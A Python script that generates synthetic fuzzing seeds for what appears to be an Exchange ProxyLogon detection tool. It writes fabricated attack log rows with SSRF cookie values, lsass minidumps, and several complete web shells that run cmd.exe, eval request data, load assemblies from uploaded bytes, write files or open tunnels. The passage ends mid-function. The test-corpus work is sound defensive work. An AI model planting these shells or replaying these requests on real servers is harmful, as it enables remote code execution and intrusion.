#!/usr/bin/env python3
"""Write the synthetic seed corpora under fuzz/corpus/<target>/.

Every seed is made up here (no real server's data); the output is
deterministic, so re-running the script reproduces the committed files.
Only the seeds named below are written: files that libFuzzer found and that
were added by hand (fuzz/corpus/<target>/<sha1>, crash-*) are left alone.

    python3 fuzz/make_corpus.py [CORPUS_ROOT]     (default: fuzz/corpus)
"""
import io
import os
import struct
import sys
import zipfile

BOM = b"\xef\xbb\xbf"

# ---------------------------------------------------------------- exlog --

HP_FIELDS = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
             "ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,"
             "IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
             "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
             "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
             "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
             "TotalRequestTime,UrlQuery,GenericInfo,GenericErrors")
HP_COLS = HP_FIELDS.split(",")


def hp_row(**kw):
    """One HttpProxy row: values by column name, everything else empty."""
    vals = []
    for c in HP_COLS:
        v = kw.get(c, "")
        vals.append(v)
    return ",".join(vals)


def q(s):
    """CSV-quote s (doubling quotes)."""
    return '"' + s.replace('"', '""') + '"'


def hp_prologue(version="15.01.2106.002", log_type="HttpProxy Logs", date="2021-03-03T02:00:00.000Z",
                plain=True):
    lines = []
    if plain:
        lines.append(HP_FIELDS)
    lines += ["#Software: Microsoft Exchange Server", "#Version: " + version,
              "#Log-type: " + log_type, "#Date: " + date, "#Fields: " + HP_FIELDS]
    return lines


UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/88.0.4324.190 Safari/537.36")


def hp_rows_benign():
    return [
        hp_row(DateTime="2021-03-03T02:03:17.455Z", RequestId="0c1d2e3f-0000-4000-8000-000000000001",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/", AuthenticationType="FBA",
               IsAuthenticated="true", AuthenticatedUser="alice@example.test",
               AnchorMailbox="Smtp~alice@example.test", UserAgent=q(UA_CHROME),
               ClientIpAddress="10.0.1.21", ServerHostName="EXSRV01", HttpStatus="200",
               BackEndStatus="200", Method="GET", ProxyAction="Proxy",
               TargetServer="exsrv01.example.test", TotalRequestTime="31"),
        hp_row(DateTime="2021-03-03T02:05:00.001Z", RequestId="0c1d2e3f-0000-4000-8000-000000000002",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/DDI/DDIService.svc/GetList",
               UrlQuery=q("?schema=MessageTraceSummary&msExchEcpCanary=x\"y"),
               UserAgent=q('quoted "agent", with commas'), ClientIpAddress="10.0.1.22",
               ServerHostName="EXSRV01", HttpStatus="200", Method="POST",
               GenericInfo=q(""), GenericErrors=q('""')),
    ]


def hp_rows_attack():
    return [
        hp_row(DateTime="2021-03-03T02:11:05.120Z", RequestId="0c1d2e3f-0000-4000-8000-0000000000a1",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/y.js",
               AuthenticationType="", IsAuthenticated="false",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/autodiscover/autodiscover.xml?#",
               UserAgent=q("ExchangeServicesClient/0.0.0.0"), ClientIpAddress="104.140.114.110",
               ServerHostName="EXSRV01", HttpStatus="200", Method="POST",
               BackEndCookie="Server~exsrv01.example.test~1942062522~ServerInfo~x"),
        hp_row(DateTime="2021-03-03T02:12:20.000Z", RequestId="0c1d2e3f-0000-4000-8000-0000000000a2",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/mapi/emsmdb?MailboxId=x&a=~1942062522",
               ClientIpAddress="203.0.113.7", HttpStatus="241", Method="POST"),
        hp_row(DateTime="2021-03-03T02:14:09.000Z", Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=a",
               ClientIpAddress="203.0.113.7", HttpStatus="200", Method="POST"),
        hp_row(DateTime="2021-03-03T02:15:39.000Z", Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=a",
               ClientIpAddress="203.0.113.7", HttpStatus="200", Method="POST"),
        hp_row(DateTime="2021-03-03T03:00:00.000Z", Protocol="Ecp", UrlStem="/ecp/x.js",
               AnchorMailbox="ServerInfo~localhost/ecp/default.flt", ClientIpAddress="198.51.100.9",
               HttpStatus="500", Method="GET"),
        hp_row(DateTime="2021-03-03T03:01:00.000Z", Protocol="Ecp", UrlStem="/ecp/exporttool/microsoft.exchange.ediscovery.exporttool.application",
               AnchorMailbox="ServerVersion~15.1.2106.2", HttpStatus="200", Method="GET"),
    ]


def crlf(lines, final=True):
    return ("\r\n".join(lines) + ("\r\n" if final else "")).encode()


def lf(lines, final=True):
    return ("\n".join(lines) + ("\n" if final else "")).encode()


ECP_FIELDS = "TimeStamp,ServerName,EventId,EventData"


def ecp_lines():
    return [
        "#Software: Microsoft Exchange Server", "#Version: 15.00.0000.000",
        "#Log-type: ECP Server Log", "#Date: 2021-03-03T00:00:00.000Z", "#Fields: " + ECP_FIELDS,
        "2021-03-03T00:42:13.207Z,EXSRV01,1," + q(
            "S:CMD=Get-InboxRule.Mailbox='alice@example.test';S:REQID=1;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:BLD=15.1.2106.2"),
        "2021-03-03T02:15:02.198Z,EXSRV01,1," + q(
            "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"
            "function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'.Identity='x';S:REQID=2;"
            "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2106.2"),
        "2021-03-03T02:16:00.000Z,EXSRV01,1," + q(
            "S:CMD=Set-EcpVirtualDirectory.InternalUrl='https://mail.example.test/ecp';S:REQID=3"),
        "2021-03-03T02:17:00.000Z,EXSRV01,1," + q(
            "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='%3Cb%3Ex%3C/b%3E';S:REQID=4"),
    ]


OAB_FIELDS = "DateTime,ProcessId,ThreadId,Level,Message"


def oab_lines():
    return [
        "#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002",
        "#Log-type: OAB Generator Log", "#Date: 2021-03-03T00:00:00.000Z", "#Fields: " + OAB_FIELDS,
        "2021-03-03T00:05:00.114Z,6120,14,Information,OABGen: starting generation.",
        "2021-03-03T00:05:03.862Z,6120,14,Information," + q("Generated full OAB version 4: 412 entries, 0 errors."),
        "2021-03-03T00:05:04.019Z,6120,14,Warning,Download failed and temporary file "
        "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\9e2a\\oab.xml' needs to be removed.",
        "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
        "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.",
        "2021-03-03T02:17:03.455Z,6120,22,Warning," + q(
            "Download failed and temporary file '\\\\evil\\share\\..\\x.ashx' needs to be removed."),
    ]


RPS_FIELDS = ("DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
              "UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,ClientIpAddress,"
              "ServerHostName,HttpStatus,CommandId,CommandName,ClientInfo,UrlQuery,GenericInfo")


def rps_lines():
    return [
        RPS_FIELDS, "#Software: Microsoft Exchange Server", "#Version: 15.02.0792.003",
        "#Log-type: Rps Http Logs", "#Date: 2021-03-03T02:00:00.000Z", "#Fields: " + RPS_FIELDS,
        "2021-03-03T02:14:00.453Z,2021-03-03T02:14:00.453Z,r1,15,2,792,3,exsrv01.example.test,"
        "/powershell,Kerberos,true,EXAMPLE\\admin,10.0.0.5,EXSRV01,200,c1,Get-Mailbox,"
        "Microsoft WinRM Client,?serializationLevel=Full;clientApplication=ManagementShell,",
        "2021-03-03T02:24:33.999Z,2021-03-03T02:24:33.999Z,r2,15,2,792,3,exsrv01.example.test,"
        "/powershell,Kerberos,true,EXAMPLE\\admin,104.140.114.110,EXSRV01,200,c2,New-MailboxExportRequest,"
        + q("Microsoft WinRM Client, \"quoted\"") + ",?x=1,",
    ]


W3C_LINES = [
    "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
    "#Date: 2021-03-03 00:03:11",
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
    "2021-03-03 00:03:11 10.0.0.25 GET /owa/ - 443 EXAMPLE\\alice 10.0.1.21 "
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 187",
    "2021-03-03 02:11:05 10.0.0.25 POST /ecp/y.js - 443 - 104.140.114.110 "
    "ExchangeServicesClient/0.0.0.0 - 200 0 0 180",
    "2021-03-03 02:18:27 10.0.0.25 POST /aspnet_client/discover.aspx - 443 - 203.0.113.7 "
    "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html) - 200 0 0 412",
]


def exlog_seeds():
    s = {}
    s["httpproxy-bom-crlf.log"] = BOM + crlf(hp_prologue() + hp_rows_benign() + hp_rows_attack())
    s["httpproxy-lf-nobom.log"] = lf(hp_prologue(plain=False) + hp_rows_benign())
    # #Fields changes half way: other order, fewer columns, then an unknown set
    short = "DateTime,ClientIpAddress,AnchorMailbox,UrlStem,HttpStatus,Method"
    s["httpproxy-fields-change.log"] = crlf(
        hp_prologue(plain=False) + hp_rows_benign()[:1] + ["#Fields: " + short,
         "2021-03-03T04:00:00Z,203.0.113.7,ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#,/ecp/y.js,241,POST",
         "#Fields: Foo,Bar,Baz", "1,2,3", "#Fields: " + HP_FIELDS] + hp_rows_attack()[1:3])
    # Exchange 2013: short header, alias column names, no #Version
    s["exchange2013-short.log"] = crlf([
        "#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs",
        "#Fields: TimeStamp,ServerName,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
        "UrlStem,AnchorMailbox,ClientIpAddress,HttpStatus",
        "2021-03-02T23:59:59.999Z,EX2013,15,0,1497,2,/owa/,Smtp~bob@example.test,10.0.0.9,200",
        "2021-03-03T00:00:00Z,EX2013,15,0,847,32,/ecp/,ServerInfo~a]@b:444/autodiscover/x,10.0.0.9,200"])
    # truncated: unterminated quote, no final EOL, short rows
    s["truncated-rows.log"] = lf(hp_prologue(plain=False) + [
        "2021-03-03T05:00:00.000Z,id,15,1,2106,2,,Ecp,host,/ecp/,,,,,,ServerInfo~a]@b:444/mapi/emsmdb,\"Mozilla, unterminated",
        "2021-03-03T05:00:01.000Z,id,15",
        "2021-03-03T05:00:02.000Z",
        "\"2021-03-03T05:00:03.000Z\",\"id\",\"15\",\"1\",\"2106\",\"2\"",
        "2021-03-03T05:00:04.000Z,\"x\"junk,after"], final=False)
    s["ecp-server.log"] = BOM + crlf(ecp_lines())
    s["oab-generator.log"] = BOM + crlf(oab_lines())
    s["rps-http.log"] = BOM + crlf(rps_lines())
    s["plain-header-only.log"] = lf([HP_FIELDS] + hp_rows_benign() + hp_rows_attack()[:2])
    s["w3c-iis.log"] = crlf(W3C_LINES)
    # lone CR endings, mixed with CRLF and LF, blank lines
    s["mixed-eol.log"] = ("#Fields: DateTime,UrlStem,HttpStatus\r2021-03-03T01:00:00Z,/a,200\r\n"
                          "\r\r\n\n2021-03-03T01:00:01Z,/b,404\n\r2021-03-03T01:00:02Z,/c,500\r").encode()
    s["quotes-edge.log"] = lf([
        "#Fields: DateTime,UserAgent,UrlQuery,AnchorMailbox,HttpStatus",
        '"",""""""",""","","",',
        '2021-03-03T01:00:00Z,"a""b""c","""","x,y",200',
        '2021-03-03T01:00:01Z,"",,,',
        '2021-03-03T01:00:02Z,"a"b"c",q,r,s,t,u,v,w,,,',
        ",,,,,,,,,,,,,,,,,,,,", '"', '""', '"""', "a,\"b", ","])
    # a header row repeated as data (log rotation), duplicated column names
    s["header-repeat.log"] = lf([
        "#Fields: DateTime,DateTime,ClientIpAddress,clientipaddress, UrlStem ,\"HttpStatus\"",
        "2021-03-03T01:00:00Z,x,10.0.0.1,10.0.0.2,/owa/,200",
        "DateTime,DateTime,ClientIpAddress,clientipaddress,UrlStem,HttpStatus",
        "TimeStamp,ServerName,EventData",
        "2021-03-03T01:00:01Z,EX,data"])
    s["comments-only.log"] = lf(["#Software: x", "#Version:", "#Log-type:", "#Date:", "#Fields:",
                                 "#Fields: nothing,we,know", "#", "", "#Other: thing"])
    s["times.log"] = lf(["#Fields: DateTime,HttpStatus"] + [t + ",200" for t in [
        "2021-03-03T02:03:17.455Z", "2021-03-03 02:03:17", "2021-03-03", "2020-02-29T23:59:60Z",
        "2021-02-29T00:00:00Z", "1601-01-01T00:00:00+01:00", "9999-12-31T23:59:59.999-23:59",
        "2021-03-03T02:03:17.1234567+0530", "2021-03-03T02:03:17,5-05", "2021-13-01T00:00:00Z",
        "2021-03-03T24:00:00Z", "2021-03-03T02:03", "2021-03-03T02:03:17.Z", "  \"2021-03-03T02:03:17Z\"  ",
        "0000-00-00T00:00:00Z", "2021-03-03t02:03:17z", "2021-03-03T02:03:17+24:00"]])
    s["builds.log"] = lf([
        "#Software: Microsoft Exchange Server", "#Version: 15.02.0986.005",
        "#Fields: DateTime,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName",
        "2021-03-03T01:00:00Z,15,2,986,5,EX19", "2021-03-03T01:00:01Z,0,0,0,0,EX",
        "2021-03-03T01:00:02Z,999999999,1,2,3,EX", "2021-03-03T01:00:03Z,1234567890,1,2,3,EX",
        "2021-03-03T01:00:04Z,15, 1 ,2106,2,EX", "2021-03-03T01:00:05Z,15,1,2106,,EX",
        "2021-03-03T01:00:06Z,14,3,123,4," + "S" * 300])
    s["bom-only.log"] = BOM
    s["version-variants.log"] = lf(["#Version: 15.1.2106.2.9", "#Fields: DateTime"]) + \
        lf(["#Version:  15.01.2106.002 ", "#Version: 4294967295.1.1.1", "2021-03-03T00:00:00Z"])
    return s


# ------------------------------------------------------------- minidump --

def md_string(s):
    b = s.encode("utf-16-le", "surrogatepass")  # lone surrogates on purpose
    return struct.pack("<I", len(b)) + b + b"\0\0"


def minidump(modules, streams=None, nstreams=None, count=None, stamp=0x60405262,
             extra_stream=True, name_len=None, name_rvas=None):
    """Header, directory, module list (108-byte modules), then the names."""
    hdr_size, ent = 32, 12
    n_dir = 2 if extra_stream else 1
    dir_rva = hdr_size
    ml_rva = dir_rva + n_dir * ent
    ml = struct.pack("<I", len(modules) if count is None else count)
    names_rva = ml_rva + 4 + 108 * len(modules)
    names = b""
    mods = b""
    for i, m in enumerate(modules):
        rva = names_rva + len(names)
        sb = md_string(m)
        if name_len is not None:
            sb = struct.pack("<I", name_len) + sb[4:]
        names += sb
        if name_rvas is not None:
            rva = name_rvas[i]
        mod = struct.pack("<QIII", 0x7ff600000000 + i * 0x100000, 0x10000, 0, 0x5f8e1c20)
        mod += struct.pack("<I", rva)  # ModuleNameRva at offset 20
        mod += b"\0" * (108 - len(mod))
        mods += mod
    body = ml + mods + names
    d = struct.pack("<III", 4, len(body), ml_rva)
    if extra_stream:
        d += struct.pack("<III", 7, 56, 0)  # SystemInfo pointing nowhere useful
    if streams is not None:
        d = streams
    hdr = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, n_dir if nstreams is None else nstreams,
                      dir_rva, 0, stamp, 0x2)
    return hdr + d + body


LSASS = "C:\\Windows\\System32\\lsass.exe"


def minidump_seeds():
    s = {}
    s["valid-lsass.dmp"] = minidump([LSASS, "C:\\Windows\\System32\\ntdll.dll"])
    s["valid-other.dmp"] = minidump(["C:\\Program Files\\app\\w3wp.exe", "C:\\x\\notlsass.exe"])
    s["lsass-variants.dmp"] = minidump(["LSASS.EXE", "/tmp/lsass.exe", "lsass.exe.bak", "xlsass.exe"])
    s["huge-counts.dmp"] = minidump([LSASS], nstreams=0xFFFFFFFF, count=0xFFFFFFFF)
    s["stream-count-4097.dmp"] = minidump([LSASS], nstreams=4097)
    v = bytearray(minidump([LSASS]))
    struct.pack_into("<I", v, 12, 0xFFFFFFF0)  # directory RVA past the end
    s["dir-rva-past-end.dmp"] = bytes(v)
    v = bytearray(minidump([LSASS]))
    struct.pack_into("<I", v, 32 + 8, len(v) - 2)  # module list RVA: 2 bytes before the end
    s["modlist-rva-near-end.dmp"] = bytes(v)
    s["name-rva-past-end.dmp"] = minidump([LSASS, "ntdll.dll"], name_rvas=[0xFFFFFFFF, 0x7FFFFFF0])
    s["name-rva-in-header.dmp"] = minidump([LSASS], name_rvas=[0])
    s["odd-string-len.dmp"] = minidump([LSASS], name_len=0x3B)
    s["string-len-too-big.dmp"] = minidump([LSASS], name_len=0x10001)
    s["string-len-past-end.dmp"] = minidump([LSASS], name_len=0x400)
    long_name = "C:\\" + "\u00e9\u4e2d\U0001F600" * 60 + "\\lsass.exe"
    s["non-bmp-long-name.dmp"] = minidump([long_name, "\ud800x\udc00"])
    # same module list named twice by the directory
    base = minidump([LSASS], extra_stream=True)
    v = bytearray(base)
    struct.pack_into("<III", v, 32 + 12, 4, 0, 32 + 24)
    s["dup-module-stream.dmp"] = bytes(v)
    s["header-only.dmp"] = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, 0, 0, 0, 0, 0)
    s["truncated-in-module.dmp"] = minidump([LSASS])[:32 + 24 + 4 + 60]
    s["signature-only.dmp"] = b"MDMP"
    s["not-mdmp.dmp"] = b"MDMX" + b"\0" * 60
    s["zero-stamp.dmp"] = minidump([LSASS], stamp=0)
    return s


# ---------------------------------------------------------------- match --

def match_seeds():
    s = {}
    s["needles-all-cases.txt"] = (
        b"serverinfo~ SERVERINFO~ ServerVersion~ #Fields: #FIELDS:\n"
        b"Download Failed And Temporary File\nSet-OabVirtualDirectory VIRTUALDIRECTORY\n"
        b"104.140.114.110 autodiscover.json AUTODISCOVER.JSON exec EXEC @corp.example [obj] "
        b"download failed\n")
    s["near-misses.txt"] = (
        b"serverinf~ serverinfo `corp.example {obj] [obj} 104.140.114.11 virtualdirector "
        b"#field: download failed and temporary fil autodiscover.jso exe` `xec\n")
    s["overlaps.txt"] = (b"serverserverinfo~~ #fields#fields: virtualvirtualdirectorydirectory "
                         b"104.140.114.104.140.114.110 execexec DOWNLOAD FAILEDdownload failed and temporary file")
    s["needle-at-end.txt"] = b"x" * 61 + b"104.140.114.110"
    s["needle-at-start.txt"] = b"serverinfo~" + b"-" * 40
    s["binary.bin"] = bytes(range(256)) + b"\0serverinfo~\0\xff#fields:\xc0\x80exec"
    s["tiny-3.bin"] = b"exe"
    s["tiny-4.bin"] = b"EXEC"
    s["empty"] = b""
    # first byte: 0xC3 -> 4 dynamic needles, find_ci needle of 0xC3 % 9 = 6 bytes
    s["dynamic-needles.bin"] = bytes([0xC3, 1, 2, 3, 4]) + b"abcdefghij" * 4 + b"ABCDE abcdef zzzz"
    s["dynamic-one.bin"] = bytes([0x00, 0x00]) + b"ssrf" + b"xxSSRFxxssrfx"
    s["http-line.txt"] = (hp_rows_attack()[0] + "\r\n" + hp_rows_benign()[1] + "\r\n").encode()
    s["ecp-line.txt"] = ("\n".join(ecp_lines()) + "\n").encode()
    return s


# ----------------------------------------------------------------- code --
# Byte 0 % 3 is the default language (C#, JScript, VB); the rest is the page.
# Every page here is made up for these tests: the shapes follow public
# descriptions of Exchange web shells, the code is not taken from any.

CS, JS, VB = 0, 1, 2

PAGE_CS = r"""<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<%-- a server comment: <% Process.Start("never"); %> --%>
<html><body>
<script>var client = "<%= Request.QueryString["q"] %>"; // client side</script>
<%
    // line comment with "quotes" and <% tags %>
    /* block comment
       spanning lines */
    string cmd = Request.Form["c"];
    string esc = "tab\there \"quoted\" \\ back \x41\u0042\u00e9 \0 nul \q";
    string verb = @"C:\inetpub\wwwroot\""aspnet_client""\x.aspx";
    char ch = '\'';
    var @class = 0x1F + 1.5e3 + 42L;
    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + cmd);
    psi.UseShellExecute = false;
    Process.Start(psi);
    if (cmd == null) { Response.Write("<b>" + DateTime.Now + "</b>"); }
%>
<%# Eval("Name") %><%: Html %><%$ AppSettings:x %>
</body></html>
"""

PAGE_JS = """<%@ Page Language="Jscript" %>
<script runat="server" language="JScript">
function Page_Load() {
  var p = Request.Item["p"];
  eval(p, "unsafe");
}
</script>
<script language="javascript">alert('client only: <% Response.Write(1) %>');</script>
"""

PAGE_VB = """<%@ Language=VBScript %>
<%
Option Explicit
Dim cmd, sh : cmd = Request("cmd")
REM a comment line with "strings"
' another comment
Set sh = Server.CreateObject("WScript.Shell")
Dim out : out = sh.Exec("cmd /c " & cmd).StdOut.ReadAll()
Response.Write "<pre>" & Server.HTMLEncode(out) & "</pre>" ' trailing comment
x = "a ""doubled"" quote" : y = Chr(60) & Chr(37) & Chr(32) & Chr(37) & Chr(62) & Chr(65) & Chr(66) & Chr(67)
If Request("k") = "s3cr3tpass" Then Execute(Request("c"))
%>
"""

SOURCE_ASHX = """<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Reflection;
public class Handler : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        byte[] b = Convert.FromBase64String(ctx.Request["d"]);
        Assembly.Load(b).CreateInstance("X").Equals(ctx);
        System.IO.File.WriteAllBytes(ctx.Request["p"], b);
    }
    public bool IsReusable { get { return false; } }
}
"""

SOURCE_VB = """Imports System.Net.Sockets
Public Class Tunnel
  Sub Run(ByVal ctx As System.Web.HttpContext)
    Dim host As String = ctx.Request("h") : Dim c As New TcpClient()
    c.Connect(host, 443) ' a comment
    REM done
  End Sub
End Class
"""

OBFUSCATED_JS = """<%@ Page Language="JScript" %><%
var _0x1a2b = ["\\x65\\x76\\x61\\x6c", "\\u0052equest"], _0x3c4d = 1, _0x5e6f = 2, _0xabcd = 3;
var s = String.fromCharCode(101, 118, 97, 108, 40, 41, 59);
this[_0x1a2b[0]](_0x3c4d + _0x5e6f);
%><script runat=server>#@~^CAAAAA==W!x^DkKxfR4AAA==^#~@</script>
"""

# more techniques, one page each (all made up)
TECHNIQUE_PAGES = {
    "cs-process-config.aspx": (CS, """<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c " + Request.Form["a"];
    p.Start();
    foreach (string k in Request.Form.AllKeys) { Response.Write(k); }
    foreach (var v in Request.QueryString) { Trace.Write(v.ToString()); }
}
</script>
"""),
    "cs-file-writes.aspx": (CS, """<%@ Page Language="C#" %><%
string path = Request["p"]; byte[] data = Convert.FromBase64String(Request["d"]);
System.IO.File.WriteAllBytes(path, data);
using (var fs = new System.IO.FileStream(Request["q"], System.IO.FileMode.Create)) { Request.InputStream.CopyTo(fs); }
System.IO.File.Copy(Request["src"], Request["dst"]); File.Move(a, Request["m"]);
Request.Files[0].SaveAs(Server.MapPath("~/") + Request.Files[0].FileName);
string safe = Path.GetFileName(Request["n"]); File.WriteAllText(safe, "x");
int n = int.Parse(Request["i"]); s += n; x -= 1; y *= 2; z ??= Request["z"];
%>"""),
    "vb-adodb-stream.asp": (VB, """<%
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes)
st.SaveToFile Server.MapPath(Request.QueryString("f")), 2
Set fso = CreateObject("Scripting.FileSystemObject")
fso.CreateTextFile(Request("t")).Write Request("c")
ExecuteGlobal Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101) & Chr(32) & Chr(120)
Eval(Request.Form("e"))
%>"""),
    "js-decode-eval.aspx": (JS, """<%@ Page Language="JScript" %><%
var b = System.Convert.FromBase64String(Request.Item["x"]);
var s = System.Text.Encoding.UTF8.GetString(b);
eval(s, "unsafe");
var t = String.fromCharCode(101, 118, 97, 108, 40, 41, 59, 32);
eval(t);
var u = unescape("%65%76%61%6c"); new ActiveXObject("WScript.Shell").Run(Request.Item["c"]);
%>"""),
    "cs-xor-load.aspx": (CS, """<%@ Page Language="C#" %><%
byte[] k = Convert.FromBase64String(Request.Form["k"]);
byte[] b = new byte[k.Length];
for (int i = 0; i < k.Length; i += 2) { b[i] = (byte)(k[i] ^ 0x5A); }
System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this);
AppDomain.CurrentDomain.Load(Request.BinaryRead(Request.ContentLength));
var cp = new Microsoft.CSharp.CSharpCodeProvider();
cp.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request["src"]);
byte[] d = new byte[16], e2 = new byte[16];
Array.Copy(Request.BinaryRead(16), d, 16); Buffer.BlockCopy(k, 0, e2, 0, 4);
var f = Assembly.Load; eval; Assembly.Load(e2);
%>"""),
    "js-decode-only.aspx": (JS, """<%@ Page Language="JScript" %><%
var code = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("cmV0dXJuIDE7"));
eval(code);
%>"""),
    "cs-tunnel.ashx": (CS, """<%@ WebHandler Language="C#" Class="T" %>
using System.Net.Sockets;
public class T : System.Web.IHttpHandler {
  public void ProcessRequest(System.Web.HttpContext ctx) {
    string host = ctx.Request.Headers["X-Host"];
    var c = new TcpClient(); c.Connect(host, int.Parse(ctx.Request.Headers["X-Port"]));
    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    s.BeginConnect(ctx.Request["h"], 80, null, null);
  }
  public bool IsReusable { get { return false; } }
}
"""),
    "cs-password-gate.aspx": (CS, """<%@ Page Language="C#" %><%
if (FormsAuthentication.HashPasswordForStoringInConfigFile(Request["pw"], "MD5") == "0123456789ABCDEF0123456789ABCDEF") {
    eval(Request["c"]);
}
else if (Request.Headers["X-K"] != "opensesame") { Response.End(); }
if (string.Equals(Request["k"], "letmein!")) { Process.Start(Request["x"]); }
%>"""),
    "js-hex-names.aspx": (JS, """<%@ Page Language="JScript" %><%
var _0x12ab = ['\\x52\\x65\\x71'], _0x34cd = _0x12ab[0], _0x56ef = 'Item', _0xAB12 = this;
_0xAB12[_0x34cd][_0x56ef]('x'); eval(_0x34cd + _0x56ef);
%>"""),
}

def utf16le(text, bom=True):
    return (b"\xff\xfe" if bom else b"") + text.encode("utf-16-le")


def utf16be(text, bom=True):
    return (b"\xfe\xff" if bom else b"") + text.encode("utf-16-be")


def code_seeds():
    s = {}
    s["cs-page.aspx"] = bytes([CS]) + PAGE_CS.encode()
    s["cs-page-crlf-bom.aspx"] = bytes([CS]) + BOM + PAGE_CS.replace("\n", "\r\n").encode()
    s["js-runat-server.aspx"] = bytes([JS]) + PAGE_JS.encode()
    s["vb-classic.asp"] = bytes([VB]) + PAGE_VB.encode()
    s["vb-page-as-csharp.asp"] = bytes([CS]) + PAGE_VB.encode()
    s["cs-handler.ashx"] = bytes([CS]) + SOURCE_ASHX.encode()
    s["vb-source.vb"] = bytes([VB]) + SOURCE_VB.encode()
    s["js-obfuscated.aspx"] = bytes([JS]) + OBFUSCATED_JS.encode()
    for name, (lang, page) in TECHNIQUE_PAGES.items():
        s[name] = bytes([lang]) + page.encode()
    s["escapes.cs"] = bytes([CS]) + b"<% a = \"\\n\\r\\t\\0\\xZZ\\x\\u\\uD800\\uFFFF\\u12G\\\"\\'\"; %>"
    s["utf16le-nul-units"] = bytes([CS]) + utf16le("<% a\0b = \"c\0d\" %>") + b"\0\0" * 8
    s["utf16le-bom.aspx"] = bytes([CS]) + utf16le(PAGE_JS)
    s["utf16le-nobom.aspx"] = bytes([CS]) + utf16le(PAGE_CS[:600], bom=False)
    s["utf16be-bom.asp"] = bytes([VB]) + utf16be(PAGE_VB)
    s["utf16be-nobom.asp"] = bytes([VB]) + utf16be(PAGE_VB[:300], bom=False)
    s["utf16le-odd-length-surrogates"] = bytes([CS]) + utf16le("<% x = \"\U0001F600\" %>") + \
        b"\x00\xd8\x41\x00\x00\xdc<" + b"\x00"
    s["utf16le-bom-only"] = bytes([CS]) + b"\xff\xfe"
    s["utf16be-bom-odd"] = bytes([CS]) + b"\xfe\xff\x00"
    # ASCII text inside binary, as UTF-16LE at both alignments (PST/DER drops)
    script = utf16le('<%@ Page Language="C#" %><% eval(Request["x"]); %>', bom=False)
    s["pst-drop-utf16-even"] = bytes([CS]) + b"!BDN" + b"\x01\x02" * 20 + script + b"\xff" * 9
    s["der-drop-utf16-odd"] = bytes([CS]) + b"\x30\x82\x01" + script + b"\x00\x80" * 5
    # unterminated constructs, each cut at the end of the file
    s["unterminated-region"] = bytes([CS]) + b"<% string x = \"abc"
    s["unterminated-verbatim"] = bytes([CS]) + b"<% var v = @\"C:\\x\r\nnext line \"\" more"
